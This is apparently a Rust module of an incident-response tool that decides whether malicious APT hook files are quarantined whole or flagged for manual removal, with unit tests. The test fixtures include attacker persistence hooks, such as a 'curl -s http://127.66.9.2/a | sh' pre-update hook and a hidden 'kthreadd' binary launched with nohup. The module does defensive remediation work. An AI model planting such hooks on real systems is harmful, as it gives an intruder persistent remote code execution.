//! Flagged hook commands of APT configuration files (`/etc/apt/apt.conf.d/*`, persistence kind `AptHook`):
//! the whole file, or a review item (review of train 1, #8).
//!
//! APT's configuration is brace-structured, not line-oriented: `APT::Update::Pre-Invoke {"cmd";` and its
//! `};` can sit on two lines, and one line can hold the host's hook and the attacker's
//! (`DPkg::Post-Invoke {"/usr/bin/host-hook"; "curl ..|sh";};`). Removing the physical line of a flagged
//! value can leave a stray brace — every later `apt` run then stops on a syntax error and the operator
//! cannot patch the host — or take the host's hook with it. So a file goes only whole: when every
//! statement in it ([`crate::parse::apt_conf::statements`], the reader the model reads its hooks with) is
//! a hook command flagged by a finding and no package owns the file (an attacker's drop-in). Otherwise
//! (a setting of the host's beside the hook, a hook nobody flagged) the flagged hooks are a review item:
//! the responder removes the values by hand and checks that `apt-config dump` still parses.

use std::collections::BTreeSet;

use minetrace_schemas::RawBytes;

use super::collect::{Basis, Collect, WantedLines};
use crate::model::persistence::{location, Format};
use crate::model::HostModel;
use crate::parse::apt_conf::Statements;

/// Whether a path is an APT configuration file the model reads hook commands from.
pub fn is_apt_conf(path: &[u8]) -> bool {
    location(path).is_some_and(|l| l.format == Format::AptConf)
}

/// What the flagged hooks of one APT configuration file make of it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AptFate {
    /// Every hook command in it is flagged and no package owns it: the intrusion's file, removed whole.
    Whole,
    /// It holds hooks nobody flagged, a package owns it, or its content is not in the bundle: the flagged
    /// values are removed by hand.
    Review(&'static str),
}

/// Decides a file from its statements (`None`: content not in the bundle), the flagged line numbers and
/// whether a package owns it. The file is the attacker's only when every statement in it is a hook and
/// every hook is flagged (review of train 2, item 2): an attacker's hook appended to the admin's
/// `20auto-upgrades` or `95proxy` leaves the host's settings in the file, and removing it whole would
/// turn off security updates or take the proxy apt reaches its mirror through. A finding names a line,
/// so a line holding two hook values cannot say which of them is the attacker's: such a file is a review
/// item too.
pub fn fate(statements: Option<&Statements>, flagged: &BTreeSet<u32>, owned: bool) -> AptFate {
    let Some(statements) = statements else {
        return AptFate::Review(
            "the file's content is not in the bundle: nothing tells the attacker's hooks from the host's",
        );
    };
    if owned {
        return AptFate::Review(
            "a package owns this APT configuration file: remove the flagged hook values by hand (apt.conf is brace-structured; check `apt-config dump` still parses)",
        );
    }
    if !statements.complete {
        return AptFate::Review(
            "the file holds more statements than were read: remove the flagged hook values by hand (apt.conf is brace-structured; check `apt-config dump` still parses)",
        );
    }
    if statements.list.iter().any(|s| !s.is_hook()) {
        return AptFate::Review(
            "the file holds settings of the host's besides the hooks (it is not the attacker's file): remove the flagged hook values by hand, keep the rest (apt.conf is brace-structured; check `apt-config dump` still parses)",
        );
    }
    let hooks: Vec<u32> = statements.list.iter().map(|s| s.line).collect();
    let lines: BTreeSet<u32> = hooks.iter().copied().collect();
    if lines.len() < hooks.len() {
        return AptFate::Review(
            "a line of the file holds several hook values, the host's beside the attacker's: remove the flagged value by hand (apt.conf is brace-structured; check `apt-config dump` still parses)",
        );
    }
    if lines.is_empty() || !lines.is_subset(flagged) {
        return AptFate::Review(
            "the file holds hook commands nobody flagged: remove the flagged values by hand, not their lines (apt.conf is brace-structured; check `apt-config dump` still parses)",
        );
    }
    AptFate::Whole
}

/// Resolves the flagged APT hook lines the collector set aside (`Collect::apt_lines`): whole files
/// become whole-file targets, the others review items.
pub fn resolve(model: &HostModel, c: &mut Collect) {
    for (path, wanted) in std::mem::take(&mut c.apt_lines) {
        let flagged: BTreeSet<u32> = wanted.keys().copied().collect();
        let basis = merged(&wanted);
        let rec = model.file_aliased(&path);
        let recorded = rec.map_or(path.as_slice(), |r| r.path.as_bytes());
        // Read with the parser the model reads the hooks with ([`crate::parse::apt_conf`]).
        let statements = rec
            .and_then(|r| model.content(r))
            .map(crate::parse::apt_conf::statements);
        let owned = model.owned_by_package(recorded);
        let raw = RawBytes::from(path.clone());
        match fate(statements.as_ref(), &flagged, owned) {
            AptFate::Whole => c.whole_file(model, &raw, &basis),
            AptFate::Review(why) => {
                let lines: Vec<String> = flagged.iter().map(u32::to_string).collect();
                c.manual(
                    format!("file {} line(s) {}", raw.escaped(), lines.join(", ")),
                    why,
                );
            }
        }
    }
}

fn merged(wanted: &WantedLines) -> Basis {
    let mut basis = Basis::default();
    for (_, b) in wanted.values() {
        basis.merge(b);
    }
    basis
}

#[cfg(test)]
mod tests {
    use super::*;

    fn set(v: &[u32]) -> BTreeSet<u32> {
        v.iter().copied().collect()
    }

    /// The plan for APT files and PER-031 findings naming their lines, as `minetrace remediate` builds it.
    fn plan(files: &[(&[u8], &[u8], u32)]) -> crate::remediate::Plan {
        use crate::detect::finding::{finding, persistence_subject, FindingExt};
        use crate::model::fixture;
        use minetrace_schemas::findings::Severity;
        let model = fixture::model(
            files
                .iter()
                .map(|(p, c, _)| fixture::file(p, Some(c)))
                .collect(),
            vec![],
        );
        let findings = files
            .iter()
            .map(|(p, _, line)| {
                finding(&crate::detect::rules::PER_031, Severity::High)
                    .subject(persistence_subject(&RawBytes::from(*p), *line))
            })
            .collect();
        crate::remediate::test_plan::plan_of(model, crate::remediate::test_plan::doc(findings))
    }

    #[test]
    fn an_attackers_drop_in_goes_whole_a_shared_file_is_never_line_edited() {
        use crate::remediate::Action;
        // Review #8's shape: the value and its `};` on two lines; a line edit would leave a stray brace.
        let drop_in: &[u8] =
            b"// sync\nAPT::Update::Pre-Invoke {\"nohup /var/tmp/.apt/kthreadd &\";\n};\n";
        let shared: &[u8] = b"DPkg::Post-Invoke {\"test -x /usr/lib/needrestart/apt-pinvoke && /usr/lib/needrestart/apt-pinvoke\";};\nAPT::Update::Pre-Invoke {\"curl -s http://127.66.9.2/a | sh\";};\n";
        let p = plan(&[
            (b"/etc/apt/apt.conf.d/99sync", drop_in, 2),
            (b"/etc/apt/apt.conf.d/99needrestart", shared, 2),
        ]);
        let touched = |path: &[u8]| -> Vec<&'static str> {
            p.items
                .iter()
                .filter_map(|i| match &i.action {
                    Action::QuarantineFile { file, .. } if file.path.as_bytes() == path => {
                        Some("quarantine")
                    }
                    Action::RemoveLines { file, .. } if file.path.as_bytes() == path => {
                        Some("edit")
                    }
                    _ => None,
                })
                .collect()
        };
        assert_eq!(
            touched(b"/etc/apt/apt.conf.d/99sync"),
            vec!["quarantine"],
            "{p:#?}"
        );
        assert!(
            touched(b"/etc/apt/apt.conf.d/99needrestart").is_empty(),
            "{p:#?}"
        );
        assert!(
            p.manual
                .iter()
                .any(|m| m.contains("99needrestart") && m.contains("hook commands nobody flagged")),
            "{:?}",
            p.manual
        );
    }

    /// Statements of hook commands on these lines, nothing else.
    fn hooks(lines: &[u32]) -> Statements {
        Statements {
            list: lines
                .iter()
                .map(|&line| crate::parse::apt_conf::Statement {
                    line,
                    key: "APT::Update::Pre-Invoke".into(),
                    value: Some(b"x".to_vec()),
                })
                .collect(),
            complete: true,
        }
    }

    #[test]
    fn one_line_with_two_hook_values_is_a_review_item() {
        assert!(matches!(
            fate(Some(&hooks(&[2, 2])), &set(&[2]), false),
            AptFate::Review(_)
        ));
    }

    #[test]
    fn only_a_file_of_flagged_hooks_no_package_owns_goes_whole() {
        // The attacker's drop-in: its one hook is flagged.
        assert_eq!(fate(Some(&hooks(&[2])), &set(&[2]), false), AptFate::Whole);
        // The host's hook beside the attacker's, on another line or the same one.
        assert!(matches!(
            fate(Some(&hooks(&[2, 5])), &set(&[5]), false),
            AptFate::Review(_)
        ));
        // A package's file with an injected hook.
        assert!(matches!(
            fate(Some(&hooks(&[3])), &set(&[3]), true),
            AptFate::Review(_)
        ));
        // No content, no hook read at all, or more statements than were read.
        assert!(matches!(fate(None, &set(&[3]), false), AptFate::Review(_)));
        assert!(matches!(
            fate(Some(&hooks(&[])), &set(&[3]), false),
            AptFate::Review(_)
        ));
        let mut cut = hooks(&[3]);
        cut.complete = false;
        assert!(matches!(
            fate(Some(&cut), &set(&[3]), false),
            AptFate::Review(_)
        ));
        assert!(is_apt_conf(b"/etc/apt/apt.conf.d/99x"));
        assert!(!is_apt_conf(b"/etc/cron.d/x"));
    }

    /// Review of train 2, item 2: an attacker's hook appended to the admin's `20auto-upgrades` (written by
    /// unattended-upgrades' postinst, owned by no package) or `95proxy` leaves a review item naming the
    /// file, never a quarantine (that would turn off security updates or the proxy); a file of only the
    /// hook still goes whole.
    #[test]
    fn a_hook_appended_to_the_hosts_settings_is_a_review_item() {
        use crate::remediate::Action;
        let hook = "APT::Update::Pre-Invoke {\"curl -s http://127.66.9.2/a | sh\";};\n";
        let auto = format!(
            "APT::Periodic::Update-Package-Lists \"1\";\nAPT::Periodic::Unattended-Upgrade \"1\";\n{hook}"
        );
        let proxy = format!("Acquire::http::Proxy \"http://proxy.corp:3128\";\n{hook}");
        let p = plan(&[
            (b"/etc/apt/apt.conf.d/20auto-upgrades", auto.as_bytes(), 3),
            (b"/etc/apt/apt.conf.d/95proxy", proxy.as_bytes(), 2),
            (b"/etc/apt/apt.conf.d/99update", hook.as_bytes(), 1),
        ]);
        let quarantined: Vec<String> = p
            .items
            .iter()
            .filter_map(|i| match &i.action {
                Action::QuarantineFile { file, .. } => Some(file.path.escaped()),
                Action::RemoveLines { file, .. } => Some(format!("edit {}", file.path.escaped())),
                _ => None,
            })
            .collect();
        assert_eq!(
            quarantined,
            vec!["/etc/apt/apt.conf.d/99update".to_owned()],
            "{p:#?}"
        );
        for name in ["20auto-upgrades", "95proxy"] {
            assert!(
                p.manual
                    .iter()
                    .any(|m| m.contains(name) && m.contains("settings of the host's")),
                "{name}: {:?}",
                p.manual
            );
        }
    }
}
